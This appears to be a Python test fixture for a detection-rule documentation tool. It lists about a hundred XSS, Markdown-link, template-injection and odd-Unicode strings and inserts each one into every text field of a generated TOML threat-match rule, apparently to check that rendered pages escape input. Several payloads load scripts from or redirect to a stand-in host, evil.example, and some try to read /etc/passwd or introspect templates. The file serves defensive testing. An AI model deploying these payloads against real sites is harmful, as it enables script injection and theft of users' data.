"""Texts that try to become more than text, and rules with one of them in every field that takes a text."""

import json

# What would be seen if any of it ran.
RUN = "alert(1)"
PAYLOADS = (
    # scripts and other elements
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script src='data:text/javascript,alert(1)'></script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>*{background:url(http://evil.example/x)}</style>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<form action=http://evil.example/><input name=q autofocus onfocus=alert(1)></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div id=ui:q><div id=ui:said><div id=ui:main>",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # out of an attribute, a comment, a text element
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    'x" autofocus onfocus=alert(1) y="',
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></code><script>alert(1)</script>",
    "<!-- unclosed",
    "<div <div <div",
    "<",
    # links and pictures in Markdown
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](\\\\evil.example/)",
    "[x](/\\evil.example/)",
    '[x](http://ok.example/ "\\" onmouseover=alert(1) ")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    '![x" onerror="alert(1)](http://evil.example/x.png)',
    "[![x](http://evil.example/x.png)](javascript:alert(1))",
    '[a](http://ok.example/?a="onmouseover=alert(1))',
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    'https://ok.example/"onmouseover="alert(1)',
    "https://ok.example/<script>alert(1)</script>",
    # the structure of Markdown
    "```\n<script>alert(1)</script>\n",
    "~~~html onmouseover=alert(1)\n<script>alert(1)</script>",
    "````\n```\n<img src=x onerror=alert(1)>\n```",
    "`<img src=x onerror=alert(1)>",
    '``` " onmouseover=alert(1)\nx\n```',
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "# <img src=x onerror=alert(1)>",
    "# ui:q",
    "> " * 60 + "<img src=x onerror=alert(1)>",
    "- " * 60 + "<img src=x onerror=alert(1)>",
    "[" * 200 + "x" + "](javascript:alert(1))" * 200,
    "*" * 300 + "_" * 300,
    # templates
    "{{ 7 * 7 }}{% raw %}{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{{ view.rule.file.__class__ }}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    '!{osquery{"label":"<img src=x onerror=alert(1)>","query":"</code><script>alert(1)</script>"}}',
    '!{investigate{"label":"\\" onmouseover=alert(1)"}}',
    # characters
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\u05e9\u05dc\u05d5\u05dd<script>alert(1)</script>",
    "\u0645\u0631\u062d\u0628\u0627<b>",
    "zero\u200bwidth\u200d\ufeff<b>",
    "\u2028alert(1)\u2029",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u00adsoft\u00ad",
    "\U0001f600\U000e0001",
    "-",
    "...",
    "x" * 300,
)


def rule(payload, number, *, deprecated=False):
    """A rule's file with the payload in every field that takes any text."""
    text = json.dumps(payload, ensure_ascii=False).replace("\x7f", "\\u007f")
    # So that each rule has a page of its own, whatever is left of the payload in a file name.
    name = json.dumps(f"{payload} {number}", ensure_ascii=False)
    platform = json.dumps(f"OS: {payload}", ensure_ascii=False)
    source = json.dumps(f"Data Source: {payload}", ensure_ascii=False)
    maturity = '"deprecated"' if deprecated else '"production"'
    return f"""
[metadata]
creation_date = {text}
updated_date = {text}
deprecation_date = {text}
deprecated_reason = {text}
replacement = {text}
maturity = {maturity}
integration = [{text}]
min_stack_comments = {text}
comments = {text}
own_field = {text}
own_list = [{text}]

[rule]
name = {name}
rule_id = {name}
type = "threat_match"
language = "kuery"
query = {text}
threat_query = {text}
threat_language = "kuery"
threat_index = [{text}]
threat_indicator_path = {text}
description = {text}
severity = "low"
risk_score = 21
author = [{text}]
license = {text}
tags = [{text}, {platform}, {source}]
references = [{text}]
false_positives = [{text}]
note = {text}
setup = {text}
index = [{text}]
filters = [{{ meta = {{ key = {text} }} }}]
rule_name_override = {text}
timestamp_override = {text}
timeline_id = {text}
timeline_title = {text}
throttle = {text}
namespace = {text}

[rule.investigation_fields]
field_names = [{text}]

[[rule.threat_mapping]]
[[rule.threat_mapping.entries]]
field = {text}
type = "mapping"
value = {text}

[[rule.threat]]
framework = {text}
[rule.threat.tactic]
id = {text}
name = {text}
reference = {text}
[[rule.threat.technique]]
id = {text}
name = {text}
reference = {text}
[[rule.threat.technique.subtechnique]]
id = {text}
name = {text}
reference = {text}

[[rule.threat]]
framework = "MITRE ATT&CK"
[rule.threat.tactic]
id = "TA0002"
name = {text}
reference = {text}
[[rule.threat.technique]]
id = "T1059"
name = {text}
reference = {text}

[[rule.related_integrations]]
package = {text}
integration = {text}
version = {text}

[[rule.required_fields]]
name = {text}
type = {text}

[[rule.severity_mapping]]
field = {text}
operator = "equals"
value = {text}
severity = "low"

[[rule.risk_score_mapping]]
field = {text}
operator = "equals"
value = {text}

[[rule.exceptions_list]]
id = {text}
list_id = {text}
namespace_type = "single"
type = "detection"

[[rule.actions]]
id = {text}
action_type_id = {text}
group = "default"
[rule.actions.params]
message = {text}
"""
